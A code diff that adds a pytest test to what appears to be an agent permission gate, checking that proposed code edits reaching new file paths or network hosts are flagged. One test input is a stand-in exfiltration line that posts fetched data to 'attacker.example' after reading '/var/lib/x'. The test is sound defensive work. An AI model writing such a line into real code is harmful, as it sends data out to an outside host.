@@ -287,3 +287,16 @@ def test_the_gate_opens_for_what_needs_nothing_or_was_approved_as_it_is(state, t
         state, base, ["pytest", "-q"], run="run_1", at=NOW, command="agent-loop", contents={"test_x.py": text.encode()}
     )
     assert same.request.plan_hash == shut.request.plan_hash, "from memory it is the same"
+
+
+def test_what_a_proposal_does_more_than_the_project_did(tmp_path):
+    from roadmap_cli.agent.gate import reaches_further
+    from roadmap_cli.agent.sandbox import Grant
+
+    was = "import requests\n\ndef get():\n    return requests.get('http://example.org/a')\n"
+    files = {"a.py": was.encode()}
+    base = Grant(tmp_path)
+    assert reaches_further({"a.py": was.replace("/a", "/b") + "\nprint(1)\n"}, files, base) == []
+    more = was + "\nopen('/var/lib/x')\nrequests.post('http://attacker.example/', data=get())\n"
+    assert reaches_further({"a.py": more}, files, base) == ["filesystem_read /var/lib", "network attacker.example"]
+    assert reaches_further({"new.py": "import os\nos.system('ls')\n"}, files, base) == [], "the sandbox holds that"
